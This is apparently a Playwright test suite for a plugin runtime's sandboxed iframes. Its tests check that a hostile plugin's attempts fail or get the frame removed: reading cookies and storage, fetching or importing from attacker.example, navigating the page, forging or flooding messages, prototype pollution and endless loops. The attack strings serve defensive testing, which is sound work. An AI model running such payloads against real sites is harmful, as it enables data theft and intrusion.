import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { block } from '../browser/blocks.ts';
import { frameOf } from '../browser/isolated-frame.ts';
import { type OpenPage, openPage } from '../browser/open-page.ts';
import { sampled } from '../browser/sampled.ts';
import { settled } from '../browser/settled.ts';

/* The code of these tests runs inside the frame of an isolated plugin, like the plugin's own code. It can change
   everything in its document, including the functions of the runtime. */
const fixture = inject('fixture');
const url = `${fixture}/isolated`;

/** Expects that the other blocks work, the page was not changed, and the browser is still on the page. */
async function pageWorks({ page, log }: OpenPage): Promise<void> {
  const button = block(page, 'sibling').getByRole('button');
  // The test presses the button by key. After scrolling, the browser sometimes still sends a click to the frame that
  // was at this position before.
  const clicks = async () => (await block(page, 'sibling').locator('output').textContent())?.split('click').length ?? 0;
  const before = await clicks();
  await button.press('Enter');
  await expect.poll(clicks).toBeGreaterThan(before);
  expect(page.url()).toBe(url);
  expect(log.exceptions).toEqual([]);
}

/**
 * Expects that the frame of the attacker was removed and reported once, and that the attacker's block shows its server
 * HTML again.
 */
async function isRemoved(open: OpenPage, code: string): Promise<void> {
  const { page, log } = open;
  await expect.poll(() => log.reports.map((report) => report.code)).toContain(code);
  await settled(page);
  // A report of a long task is allowed, because the work in the frame can be slow on a slow machine.
  const reports = log.reports.filter((report) => report.code !== 'PLINTH-MOUNT-006');
  expect(reports.map((report) => [report.code, report.plugin, report.block])).toEqual([
    [code, 'sandboxed', 'sandboxed'],
  ]);
  const attacked = block(page, 'sandboxed');
  expect(await attacked.locator('iframe').count()).toBe(0);
  expect(await attacked.getByRole('heading', { name: 'Card text' }).isVisible()).toBe(true);
  await frameOf(page, 'second');
  await pageWorks(open);
}

/**
 * Runs code in the frame, and returns the name of the error that the code throws. A timer in the frame runs the code,
 * because the frame's Content-Security-Policy does not apply to code that the browser's debugger evaluates directly.
 */
function refusal(frame: Frame, attack: string): Promise<string> {
  return frame.evaluate(`new Promise((resolve) => {
    setTimeout(async () => {
      try { resolve('allowed: ' + String(await (${attack}))); } catch (error) { resolve(error.name); }
    });
  })`);
}

/** Makes the runtime in the frame send this text to the page instead of its next messages. */
function forge(frame: Frame, message: string): Promise<void> {
  return frame.evaluate((text) => {
    JSON.stringify = () => text;
    globalThis.probe?.bus.emit('fixture:told', { text: '' });
  }, message);
}

async function attackedFrame(page: Page): Promise<Frame> {
  await frameOf(page, 'second');
  return frameOf(page, 'sandboxed');
}

describe('an isolated plugin that attacks', () => {
  describe('by one call', () => {
    let open: OpenPage;
    beforeAll(async () => {
      open = await openPage(url);
    });
    afterAll(() => open[Symbol.asyncDispose]());

    it.each(
      sampled([
        ['cookies', 'document.cookie', 'SecurityError'],
        ['writing a cookie', '(document.cookie = "a=b")', 'SecurityError'],
        ['localStorage', 'localStorage.length', 'SecurityError'],
        ['sessionStorage', 'sessionStorage.length', 'SecurityError'],
        ['indexedDB', 'indexedDB.open("x")', 'SecurityError'],
        ['caches', 'caches.open("x")', 'SecurityError'],
        ['the document of the page', 'parent.document', 'SecurityError'],
        ['the runtime of the page', 'parent.plinth', 'SecurityError'],
        ['the address of the page', 'top.location.href', 'SecurityError'],
        ['navigation of the page', '(top.location.href = "https://attacker.example/")', 'SecurityError'],
        [
          'the frames beside it',
          '[...Array(9).keys()].map((n) => parent.frames[n]).find((other) => other && other !== self).document',
          'SecurityError',
        ],
        ['eval', 'eval("1")', 'EvalError'],
        ['a function made of text', 'new Function("return 1")()', 'EvalError'],
        ['markup made of text', '(document.body.innerHTML = "<b>x</b>")', 'TypeError'],
        ['a Trusted Types policy of its own', 'trustedTypes.createPolicy("x", {})', 'TypeError'],
        ['a request to another host', 'fetch("https://attacker.example/")', 'TypeError'],
        ['a request to the site', 'fetch("/plain", { credentials: "include" })', 'TypeError'],
        ['a script of another host', 'import("https://attacker.example/x.js")', 'TypeError'],
        ['a script of another plugin', 'import("/_plinth/host/kernel.js")', 'TypeError'],
        ['a script made of text', 'import("data:text/javascript,export default 1")', 'TypeError'],
        ['storage through the host', 'probe.storage.local.set("a", "b")', 'PlinthError'],
        ['cookies through the host', 'probe.cookie.get("crumb")', 'PlinthError'],
        ['requests of the host', 'probe.use({ id: "plinth.http" })', 'PlinthError'],
        ['consent in the name of the visitor', 'probe.use({ id: "plinth.consent-control" })', 'PlinthError'],
        ['a service that it does not declare', 'probe.use({ id: "fixture.other" })', 'PlinthError'],
      ]),
    )('is refused: %s', async (_, attack, error) => {
      const frame = await attackedFrame(open.page);
      expect(await refusal(frame, attack)).toBe(error);
      await pageWorks(open);
      const codes = new Set(open.log.reports.map(({ code }) => code));
      expect([...codes].filter((code) => code !== 'PLINTH-FRAME-006')).toEqual([]);
    });
  });

  it('a request that its policy refuses is reported once, and the frame stays', async () => {
    await using open = await openPage(url);
    const frame = await attackedFrame(open.page);
    const attack = 'fetch("https://attacker.example/")';
    expect(await refusal(frame, attack)).toBe('TypeError');
    expect(await refusal(frame, attack)).toBe('TypeError');
    await expect.poll(() => open.log.reports.length).toBe(1);
    await settled(open.page);
    expect(open.log.reports.map(({ code, plugin, block }) => [code, plugin, block])).toEqual([
      ['PLINTH-FRAME-006', 'sandboxed', 'sandboxed'],
    ]);
    expect(open.log.reports[0]?.text).toContain('connect-src https://attacker.example/');
    await frame.getByRole('button', { name: 'Count' }).press('Enter');
    await expect.poll(() => frame.locator('output').textContent()).toBe('click');
  });

  it('a window, a dialog and a form do nothing', async () => {
    await using open = await openPage(url);
    const { page } = open;
    const frame = await attackedFrame(page);
    const opened: string[] = [];
    page.on('popup', (popup) => opened.push(popup.url()));
    page.on('dialog', (dialog) => opened.push(dialog.message()));
    page.on('request', (request) => {
      // The page itself is still allowed to load its own scripts.
      if (!request.url().startsWith(fixture)) opened.push(request.url());
    });
    await frame.evaluate(() => {
      window.open('https://attacker.example/');
      alert('attacker');
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      form.submit();
    });
    await settled(page);
    expect(opened).toEqual([]);
    await pageWorks(open);
  });

  it.each(
    sampled([
      ['the code of an event that only the host sends', `{"t":"emit","name":"page:destroyed"}`],
      ['an event that it does not declare', `{"t":"emit","name":"cart:changed"}`],
      ['a link without a click', `{"t":"link","href":"https://attacker.example/","newTab":false}`],
      ['Escape without the focus', `{"t":"escape","shiftKey":false}`],
      ['a hook that it does not declare', `{"t":"tap","hook":"escape"}`],
      ['a result that nobody waits for', `{"t":"result","id":1}`],
      ['a height of a million pixels', `{"t":"height","px":1000000}`],
    ]),
  )('does not change the page: %s', async (_, message) => {
    await using open = await openPage(url);
    const { page, log } = open;
    const frame = await attackedFrame(page);
    await page.evaluate(() => window.plinth?.on('page:destroyed', () => document.body.remove()));
    await block(page, 'controls').getByRole('button', { name: 'Open panel' }).press('Enter');
    await forge(frame, message);
    await settled(page);
    expect(await block(page, 'controls').getByText('Panel', { exact: true }).isVisible()).toBe(true);
    const height = await block(page, 'sandboxed')
      .locator('iframe')
      .evaluate((element) => element.clientHeight);
    expect(height).toBeLessThanOrEqual(20_000);
    await pageWorks(open);
    expect(log.reports.filter(({ code }) => code !== 'PLINTH-CAP-001')).toEqual([]);
  });

  it.each(
    sampled([
      ['no JSON', 'attack'],
      ['an unknown message', '{"t":"attack"}'],
      ['an unknown field', '{"t":"ready","more":1}'],
      ['pollution of a prototype', '{"t":"emit","name":"fixture:told","data":{"__proto__":{"polluted":1}}}'],
      [
        'a hundred thousand levels',
        `{"t":"emit","name":"fixture:told","data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      ],
    ]),
  )('is removed after a message with %s', async (_, message) => {
    await using open = await openPage(url);
    await forge(await attackedFrame(open.page), message);
    await isRemoved(open, 'PLINTH-FRAME-004');
    expect(await open.page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
  });

  it('is removed after a message of 100 MB', async () => {
    await using open = await openPage(url);
    const frame = await attackedFrame(open.page);
    await frame.evaluate(() => {
      const message: unknown = { length: 0, text: 'x'.repeat(100_000_000) };
      Reflect.set(JSON, 'stringify', () => message);
      globalThis.probe?.bus.emit('fixture:told', { text: '' });
    });
    await isRemoved(open, 'PLINTH-FRAME-004');
  });

  it.each([
    [
      'its port',
      () => {
        for (let count = 0; count < 5_000; count += 1) globalThis.probe?.bus.emit('fixture:told', { text: '' });
      },
    ],
    [
      'the window of the page',
      () => {
        for (let count = 0; count < 5_000; count += 1) parent.postMessage({ plinth: 'frame', v: 1, nonce: '' }, '*');
      },
    ],
  ])('is removed after thousands of messages to %s', async (_, flood) => {
    await using open = await openPage(url);
    const frame = await attackedFrame(open.page);
    // The frame can be removed before the code in it has ended, and then the call is rejected.
    void frame.evaluate(flood).catch(() => undefined);
    await isRemoved(open, 'PLINTH-FRAME-005');
  });

  it.each(
    sampled([
      ['another page of the site', '/plain'],
      ['another site', 'https://attacker.example/'],
      ['a document made of text', 'data:text/html,attacker'],
      ['the same document again', ''],
    ]),
  )('is removed when it navigates its own frame to %s', async (_, target) => {
    await using open = await openPage(url);
    const frame = await attackedFrame(open.page);
    const requests: string[] = [];
    open.page.on('request', (request) => requests.push(request.url()));
    await frame
      .evaluate((address) => (address ? location.assign(address) : location.reload()), target)
      .catch(() => undefined);
    await isRemoved(open, 'PLINTH-FRAME-002');
    expect(requests.filter((address) => address.includes('attacker'))).toEqual([]);
  });

  it('is removed when it runs an endless loop, and the page continues to work', async () => {
    await using open = await openPage(url);
    const frame = await attackedFrame(open.page);
    await frame.evaluate(() => {
      setTimeout(() => {
        for (;;);
      });
    });
    const { page, log } = open;
    const sibling = block(page, 'sibling');
    // A script dispatches the click. For a real click the browser would wait for the process of every frame.
    await sibling.getByRole('button').evaluate((button: HTMLElement) => button.click());
    await expect.poll(() => sibling.locator('output').textContent()).toBe('click');
    const attacked = block(page, 'sandboxed');
    await expect.poll(() => attacked.locator('iframe').count()).toBe(0);
    expect(await attacked.locator('h2').textContent()).toBe('Card text');
    await expect.poll(() => log.reports.length).toBeGreaterThan(0);
    // Frames of one site share a process, so the other frames can have stopped answering too.
    expect(new Set(log.reports.map(({ code }) => code))).toEqual(new Set(['PLINTH-FRAME-003']));
    expect(log.exceptions).toEqual([]);
  });

  it('a frame that ends leaves nothing on the escape stack of the page', async () => {
    await using open = await openPage(url);
    const { page } = open;
    const frame = await attackedFrame(page);
    const panel = block(page, 'controls').getByText('Panel', { exact: true });
    await block(page, 'controls').getByRole('button', { name: 'Open panel' }).press('Enter');
    await frame.getByRole('button', { name: 'Open' }).press('Enter');
    await frame.getByText('Opened').waitFor();
    await forge(frame, 'attack');
    await isRemoved(open, 'PLINTH-FRAME-004');
    await page.keyboard.press('Escape');
    await panel.waitFor({ state: 'detached' });
  });

  it('cannot send messages in the name of another frame or of the page', async () => {
    await using open = await openPage(url);
    const { page, log } = open;
    const first = await attackedFrame(page);
    const second = await frameOf(page, 'second');
    await second.evaluate(() => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => document.body.append('attacked');
      parent.frames[0]?.postMessage({ plinth: 'page', v: 1, nonce: '' }, '*', [port2]);
      parent.postMessage({ plinth: 'frame', v: 1, nonce: '' }, '*');
    });
    await settled(page);
    await first.getByRole('button', { name: 'Count' }).press('Enter');
    await expect.poll(() => first.locator('output').textContent()).toBe('click');
    expect(await second.locator('body').textContent()).not.toContain('attacked');
    expect(log.reports).toEqual([]);
    await pageWorks(open);
  });

  it('has sanitised server HTML, which cannot leave the page, cover it, or send a form', async () => {
    await using open = await openPage(`${fixture}/isolated-hostile`, { javaScriptEnabled: false });
    const content = block(open.page, 'sandboxed').locator('.sqs-block-content');
    await content.getByRole('heading', { name: 'Hostile' }).waitFor();
    expect(await content.innerHTML()).not.toMatch(/<meta|<form|style=/);
    expect(open.page.url()).toBe(`${fixture}/isolated-hostile`);
  });

  it('has a document without an origin, which runs nothing when it is opened by itself', async () => {
    await using open = await openPage(`${fixture}/_frame/isolated/sandboxed/en.html`, { waitForRuntime: false });
    await expect.poll(() => open.log.exceptions.length).toBe(1);
    expect(open.log.exceptions[0]).toContain('runs only in a sandboxed frame');
    expect(await open.page.evaluate(() => [self.origin, document.body.childElementCount])).toEqual(['null', 0]);
  });
});
